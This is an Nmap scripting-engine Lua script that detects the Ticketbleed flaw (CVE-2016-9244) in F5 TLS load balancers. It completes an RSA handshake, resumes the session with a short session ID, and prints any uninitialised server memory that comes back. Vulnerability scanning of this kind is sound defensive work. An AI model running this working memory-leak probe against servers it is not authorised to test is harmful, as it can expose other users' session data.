local match = require "match"
local math = require "math"
local nmap = require "nmap"
local openssl = require "openssl"
local os = require "os"
local shortport = require "shortport"
local sslcert = require "sslcert"
local stdnse = require "stdnse"
local string = require "string"
local table = require "table"
local tls = require "tls"
local vulns = require "vulns"

description = [[
Looks whether a server gives away memory when a client takes up a session by a ticket (CVE-2016-9244).

F5's BIG-IP answered such clients with 32 octets of a session's identifier, even if the client had sent fewer: the rest
were memory that had not been cleared. The script gets a ticket, uses it with an identifier of 16 octets, and looks at
how long the server's is. It makes the first session with a key that goes encrypted by the server's RSA key.
]]

---
-- @usage nmap -p443 --script tls-ticketbleed target
--
-- @output
-- PORT    STATE SERVICE
-- 443/tcp open  https
-- | tls-ticketbleed:
-- |   VULNERABLE:
-- |   Ticketbleed is a serious issue in products manufactured by F5, a popular
-- |   vendor of TLS load-balancers.
-- |     State: VULNERABLE (Exploitable)
--

author = "The Perilune authors"
license = "MIT OR Apache-2.0"
categories = { "vuln", "safe" }

portrule = function (host, port)
  return shortport.ssl(host, port) or sslcert.getPrepareTLSWithoutReconnect(port)
end

local CIPHER = "TLS_RSA_WITH_AES_128_CBC_SHA"
local VERSION = 0x0303
local CHANGE_CIPHER_SPEC, ALERT, HANDSHAKE = 20, 21, 22
local SERVER_HELLO, NEW_TICKET, CERTIFICATE, HELLO_DONE = 2, 4, 11, 14
local RECORD_LEN_MAX, RECORDS_MAX, HANDSHAKE_LEN_MAX = 18432, 50, 256 * 1024
local ID_LEN = 16

-- Expands a secret (RFC 5246, 5).
local function expand (secret, label, seed, len)
  local input, parts, size = label .. seed, {}, 0
  local a = input
  while size < len do
    a = openssl.hmac("SHA256", secret, a)
    parts[#parts + 1] = openssl.hmac("SHA256", secret, a .. input)
    size = size + 32
  end
  return string.sub(table.concat(parts), 1, len)
end

local function connect (host, port)
  local special = sslcert.getPrepareTLSWithoutReconnect(port)
  if special then
    local status, socket = special(host, port)
    return status and socket or nil
  end
  local socket = nmap.new_socket()
  socket:set_timeout(math.max(stdnse.get_timeout(host), 5000))
  if socket:connect(host, port) then return socket end
  return nil
end

-- One record: its kind and content, or nil and an error.
local function read_record (socket)
  local status, head = socket:receive_buf(match.numbytes(5), true)
  if not status then return nil, head end
  local kind, _, len = string.unpack(">BI2I2", head)
  if len > RECORD_LEN_MAX then return nil, "the record is too long" end
  local data = ""
  if len > 0 then
    status, data = socket:receive_buf(match.numbytes(len), true)
    if not status then return nil, data end
  end
  return kind, data
end

-- Handshake messages up to the one wanted: a table of their bodies by kind, and all their octets; or nil and an error.
local function read_handshake (socket, wanted)
  local buffer, bodies, pos = "", {}, 1
  for _ = 1, RECORDS_MAX do
    local kind, data = read_record(socket)
    if not kind then return nil, data end
    if kind == ALERT then return nil, "the server refuses" end
    if kind ~= HANDSHAKE then return nil, "the server goes on without the message" end
    buffer = buffer .. data
    if #buffer > HANDSHAKE_LEN_MAX then return nil, "the handshake is too long" end
    while pos + 3 <= #buffer do
      local message, len = string.unpack(">BI3", buffer, pos)
      if pos + 3 + len > #buffer then break end
      bodies[message] = string.sub(buffer, pos + 4, pos + 3 + len)
      pos = pos + 4 + len
      if message == wanted then return bodies, string.sub(buffer, 1, pos - 1) end
    end
  end
  return nil, "the handshake has too many parts"
end

-- A hello without its record, and the client's random octets.
local function hello (host, session_id, ticket)
  local time, random = os.time() & 0xffffffff, openssl.rand_bytes(28)
  local extensions = { ["SessionTicket TLS"] = ticket }
  local name = tls.servername(host)
  if name then extensions.server_name = tls.EXTENSION_HELPERS.server_name(name) end
  local record = tls.client_hello({ protocol = "TLSv1.2", ciphers = { CIPHER }, time = time, random = random,
    session_id = session_id, extensions = extensions })
  return record, string.sub(record, 6), string.pack(">I4", time) .. random
end

-- The server's RSA key out of its certificate (RFC 3279, 2.3.1): modulus and exponent, nil if it has none.
local function rsa_key (certificates)
  local at = string.find(certificates, "\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01\x05\x00\x03", 1, true)
  -- A string of bits, a sequence, two integers; each has its length in one to three octets.
  local pos = at and at + 12
  local function length ()
    local first = string.byte(certificates, pos) or error("cut off")
    pos = pos + 1
    if first < 0x80 then return first end
    local size = first & 0x7f
    local value = string.unpack(">I" .. size, certificates, pos)
    pos = pos + size
    return value
  end
  local function integer ()
    pos = pos + 1
    local len = length()
    local octets = string.unpack("c" .. len, certificates, pos)
    pos = pos + len
    return (string.gsub(octets, "^%z+", ""))
  end
  local ok, modulus, exponent = pcall(function ()
    length()
    pos = pos + 2
    length()
    return integer(), integer()
  end)
  if not at or not ok then return nil end
  return modulus, exponent
end

-- A secret, encrypted with that key (RFC 8017, 7.2.1).
local function encrypt_secret (secret, modulus, exponent)
  local filling = {}
  for i = 1, #modulus - #secret - 3 do filling[i] = string.char(math.random(1, 255)) end
  local block = openssl.bignum_bin2bn("\0\2" .. table.concat(filling) .. "\0" .. secret)
  local encrypted = openssl.bignum_bn2bin(openssl.bignum_mod_exp(block, openssl.bignum_bin2bn(exponent),
    openssl.bignum_bin2bn(modulus)))
  return string.rep("\0", #modulus - #encrypted) .. encrypted
end

local function record (kind, data) return string.pack(">BI2s2", kind, VERSION, data) end

-- The client's first encrypted record: it ends the handshake (RFC 5246, 6.2.3.2, 7.4.9).
local function finished (master, keys, transcript)
  local verify = expand(master, "client finished", openssl.digest("sha256", transcript), 12)
  local message = string.pack(">Bs3", 20, verify)
  local code = openssl.hmac("SHA1", string.sub(keys, 1, 20), string.pack(">I8BI2s2", 0, HANDSHAKE, VERSION, message))
  local text = message .. code
  local padding = 15 - #text % 16
  text = text .. string.rep(string.char(padding), padding + 1)
  local iv = openssl.rand_bytes(16)
  local encrypted = openssl.encrypt("aes-128-cbc", string.sub(keys, 41, 56), iv, text)
  return record(HANDSHAKE, iv .. string.sub(encrypted, 1, #text))
end

-- A ticket of the server, nil and an error if it gives none.
local function get_ticket (host, port)
  local socket = connect(host, port)
  if not socket then return nil, "no connection" end
  local first, spoken, client_random = hello(host, "", "")
  local status, err = socket:send(first)
  local bodies, octets
  if status then bodies, octets = read_handshake(socket, HELLO_DONE) end
  local server_hello = bodies and bodies[SERVER_HELLO]
  local modulus, exponent
  if bodies and bodies[CERTIFICATE] then modulus, exponent = rsa_key(bodies[CERTIFICATE]) end
  if not server_hello or #server_hello < 38 or not modulus or #modulus < 64 then
    socket:close()
    return nil, octets or err or "no RSA key"
  end
  local secret = string.pack(">I2", VERSION) .. openssl.rand_bytes(46)
  local server_random = string.sub(server_hello, 3, 34)
  local master = expand(secret, "master secret", client_random .. server_random, 48)
  local keys = expand(master, "key expansion", server_random .. client_random, 72)
  local exchange = string.pack(">Bs3", 16, string.pack(">s2", encrypt_secret(secret, modulus, exponent)))
  local transcript = spoken .. octets .. exchange
  status, err = socket:send(record(HANDSHAKE, exchange) .. record(CHANGE_CIPHER_SPEC, "\1")
    .. finished(master, keys, transcript))
  local ticket
  if status then
    bodies, err = read_handshake(socket, NEW_TICKET)
    local body = bodies and bodies[NEW_TICKET]
    if body and #body > 6 then ticket = string.sub(body, 7) end
  end
  socket:close()
  return ticket, err
end

-- The server's identifier of a session that is taken up with ours.
local function taken_up (host, port, ticket, id)
  local socket = connect(host, port)
  if not socket then return nil, "no connection" end
  local status, err = socket:send((hello(host, id, ticket)))
  local bodies
  if status then bodies, err = read_handshake(socket, SERVER_HELLO) end
  socket:close()
  local body = bodies and bodies[SERVER_HELLO]
  if not body or #body < 35 then return nil, err end
  local len = string.byte(body, 35)
  return string.sub(body, 36, 35 + len)
end

action = function (host, port)
  local vuln = {
    title = "Ticketbleed is a serious issue in products manufactured by F5, a popular\nvendor of TLS load-balancers.",
    state = vulns.STATE.NOT_VULN,
    risk_factor = "High",
    IDS = { CVE = "CVE-2016-9244" },
    description = [[
The server answers a client that takes up a session by a ticket with memory of
its process: up to 31 octets at a time, which may be of others' sessions.]],
    references = { "https://filippo.io/Ticketbleed/", "https://support.f5.com/csp/article/K05121675" },
  }
  local ticket, err = get_ticket(host, port)
  if not ticket then
    stdnse.debug1("no ticket: %s", tostring(err))
    return nil
  end
  local id = openssl.rand_bytes(ID_LEN)
  local answer
  answer, err = taken_up(host, port, ticket, id)
  if not answer then
    stdnse.debug1("the session is not taken up: %s", tostring(err))
    return nil
  end
  if #answer > ID_LEN and string.sub(answer, 1, ID_LEN) == id then
    vuln.state = vulns.STATE.EXPLOIT
    vuln.exploit_results = stdnse.tohex(string.sub(answer, ID_LEN + 1))
  end
  return vulns.Report:new(SCRIPT_NAME, host, port):make_output(vuln)
end
